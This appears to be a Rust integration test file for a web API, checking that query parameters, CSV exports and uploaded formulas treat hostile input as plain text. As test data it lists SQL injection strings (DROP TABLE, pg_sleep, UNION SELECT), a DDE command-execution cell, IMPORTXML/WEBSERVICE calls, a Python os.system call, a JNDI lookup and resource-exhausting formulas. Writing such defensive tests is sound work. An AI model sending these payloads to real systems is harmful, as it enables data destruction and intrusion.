//! Input that wants to be SQL, a spreadsheet's formula, or a formula that does harm: it is text, or it is refused.

use std::time::{Duration, Instant};

use reqwest::Method;
use serde_json::{Value, json};

use crate::{
    engagement::World,
    harness::{Node, Session, answer},
};

/// What nothing is called; what a list shows for it, it must show for all that follow.
const NOTHING: &str = "zzz nothing zzz";

const SQL: [&str; 9] = [
    "' OR '1'='1",
    "zzz%' OR '1'='1' --",
    "'; DROP TABLE main.events; --",
    "1); SELECT pg_sleep(30); --",
    "zzz' UNION SELECT 1, payload::text FROM main.events --",
    "zzz\\' OR 1=1 --",
    "zzz\" OR \"\"=\"",
    "zzz$1",
    "zzz%_",
];

/// Every list and resource, with the names of what can be asked of it.
fn queries() -> Vec<(String, Vec<String>)> {
    let document = serde_json::to_value(ddc::http::document()).unwrap();
    let paths = document["paths"].as_object().unwrap().iter();
    let gets = paths.filter(|(path, methods)| methods["get"].is_object() && !path.starts_with("/metrics"));
    gets.map(|(path, methods)| {
        let all = methods["get"]["parameters"].as_array().cloned().unwrap_or_default();
        let named = all.iter().filter(|one| one["in"] == "query").map(|one| one["name"].as_str().unwrap().to_owned());
        let paging = ["page", "page_size", "cursor", "ordering", "search"].map(str::to_owned);
        let mut names: Vec<String> = named.chain(paging).collect();
        names.sort();
        names.dedup();
        (path.clone(), names)
    })
    .collect()
}

/// A path with its query.
fn with(path: &str, pairs: &[(&str, &str)]) -> String {
    let url = reqwest::Url::parse_with_params("http://ddc.test", pairs).unwrap();
    format!("{path}?{}", url.query().unwrap())
}

#[tokio::test(flavor = "multi_thread", worker_threads = 1)]
async fn no_parameter_of_a_query_is_sql() {
    let node = Node::start().await;
    let world = World::build(&node).await;
    let admin = node.admin().await;
    let (mut wrong, mut asked) = (Vec::new(), 0);
    let ask = async |path: &str, name: &str, value: &str| {
        // What has been noted of earlier requests must not be found.
        let told = answer(admin.request(Method::GET, &with(path, &[(name, value), ("to", "2020-01-01")]))).await;
        (told.status.as_u16(), told.body["count"].clone(), told.text)
    };
    for (path, names) in queries() {
        let path = world.fill(&path);
        for name in names.iter().filter(|name| *name != "to") {
            let nothing = ask(&path, name, NOTHING).await;
            for sql in SQL {
                let begun = Instant::now();
                let told = ask(&path, name, sql).await;
                asked += 1;
                let same = (told.0, &told.1) == (nothing.0, &nothing.1);
                if !same || told.0 >= 500 || begun.elapsed() > Duration::from_secs(20) {
                    wrong.push(format!("{path}?{name}={sql}: {} {}, not {} {}", told.0, told.2, nothing.0, nothing.1));
                }
            }
        }
    }
    assert!(asked > 1000, "{asked}");
    assert!(wrong.is_empty(), "{} of {asked}:\n{}", wrong.len(), wrong.join("\n"));
    node.prove_projections().await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 1)]
async fn a_text_that_looks_like_sql_is_kept_as_it_is() {
    let node = Node::start().await;
    let admin = node.admin().await;
    for sql in SQL {
        let made = admin.post("/api/common/company/", json!({"name": sql})).await.expect(201);
        let id = &made["id"];
        assert_eq!(admin.get(&format!("/api/common/company/{id}/")).await.expect(200)["name"], sql);
        let found = answer(admin.request(Method::GET, &with("/api/common/companies/", &[("search", sql)]))).await;
        assert_eq!(found.expect(200)["count"], 1, "{sql}");
    }
}

/// Begins with what makes a spreadsheet calculate.
fn is_calculated(cell: &str) -> bool {
    cell.trim_start().starts_with(['=', '+', '-', '@', '\t', '\r'])
}

#[tokio::test(flavor = "multi_thread", worker_threads = 1)]
async fn no_cell_of_an_export_is_calculated_and_each_comes_back_as_it_was() {
    let node = Node::start().await;
    let admin = node.admin().await;
    admin.post("/api/common/vertical/", json!({"name": "Procure to Pay", "code": "P2P"})).await.expect(201);
    let metrics = ["=HYPERLINK(\"http://x\")", "+1", "-1+1", "@SUM(A1)", "'=1", "plain"];
    let mut file = "metric,question_text,vertical,top_quartile,median,bottom_quartile,year,unit,source\n".to_owned();
    for metric in metrics {
        let cell = format!("\"{}\"", metric.replace('"', "\"\""));
        file += &format!("{cell},{cell},P2P,-3,-2,-1,2025,days,{cell}\n");
    }
    admin.upload("/api/benchmarks/import/", "b.csv", file).await.expect(200);
    let kept = async || {
        let listed = admin.get("/api/benchmarks/?page_size=100").await.expect(200);
        let rows: Vec<Value> = listed["results"].as_array().unwrap().clone();
        let mut names: Vec<String> = rows.iter().map(|row| row["metric"].as_str().unwrap().to_owned()).collect();
        names.sort();
        names
    };
    let before = kept().await;
    assert!(before.contains(&"=HYPERLINK(\"http://x\")".to_owned()), "{before:?}");
    let exported = admin.get("/api/benchmarks/export/").await.text;
    let mut reader = csv::Reader::from_reader(exported.as_bytes());
    let mut cells = 0;
    for record in reader.records() {
        let record = record.unwrap();
        for cell in &record {
            cells += 1;
            assert!(!is_calculated(cell) || cell.parse::<f64>().is_ok(), "{cell:?} in {exported}");
        }
    }
    assert!(cells > 60, "{exported}");
    let report = admin.upload("/api/benchmarks/import/", "again.csv", exported).await.expect(200);
    assert_eq!((&report["created"], &report["updated"], &report["removed"]), (&json!(0), &json!(0), &json!(0)));
    assert_eq!(kept().await, before);
}

/// The errors of an upload with this formula.
async fn uploaded(session: &Session<'_>, path: &str, formula: &str) -> Value {
    let cell = formula.replace('"', "\"\"");
    let file = format!("code,text,type,formula\nF,Formula,NUMBER,\"{cell}\"\n");
    session.upload(&format!("{path}?atomic=true"), "q.csv", file).await.expect_problem(422, "IMPORT_FAILED")
}

#[tokio::test(flavor = "multi_thread", worker_threads = 1)]
async fn a_formula_can_neither_reach_out_nor_take_long() {
    let node = Node::start().await;
    let world = World::build(&node).await;
    let path = world.fill("/api/assessments/{id}/upload-questions/");
    let deep = format!("{}1{}", "(".repeat(5000), ")".repeat(5000));
    let (long, powers) = ("1+".repeat(50_000) + "1", "9".to_owned() + &"^9".repeat(500));
    for formula in [
        "=cmd|'/C calc'!A0",
        "IMPORTXML(\"http://x\")",
        "WEBSERVICE(\"http://x\")",
        "__import__('os').system('true')",
        "pg_sleep(30)",
        "{NOBODY} + 1",
        "{P2P_FTE",
        "1; DROP TABLE events",
        "${jndi:ldap://x}",
        "{{7*7}}",
        &deep,
        &long,
        &powers,
    ] {
        let begun = Instant::now();
        let told = uploaded(&world.consultant, &path, formula).await;
        let shown: String = formula.chars().take(60).collect();
        assert_eq!(told["report"]["errors"][0]["column"], "formula", "{shown}: {told}");
        assert!(begun.elapsed() < Duration::from_secs(10), "{shown} took {:?}", begun.elapsed());
    }
}
